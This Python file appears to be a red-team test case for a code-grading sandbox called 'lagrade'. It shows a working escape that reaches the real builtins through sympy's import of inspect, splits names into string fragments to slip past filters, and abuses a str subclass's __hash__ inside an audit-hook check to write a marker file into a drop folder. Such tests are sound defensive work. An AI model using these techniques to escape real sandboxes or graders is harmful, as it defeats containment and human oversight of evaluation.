"""effect: write-outside
tries: a str subclass whose __hash__ runs while the hook checks an 'object.__getattr__' event (busy) writes a file into the drop folder.

Route 1 through the membership test `args[1] not in _ALLOWED_AUDITED_READS`.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.printing.printer import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    B["op" + "en"]("/tmp/lagrade-redteam/drop/pwned-r1_hash_getattr_write_drop", "w").write("written by an answer file")

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1 through "object.__getattr__": `args[1] not in _ALLOWED_AUDITED_READS` hashes args[1]
def hook_hash(self):
    once()
    return hash(str(self))


Evil = type("Evil", (str,), {"_" + "_hash_" + "_": hook_hash})
sys_.audit("object._" + "_getattr__", None, Evil("_" + "_code__"))
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway
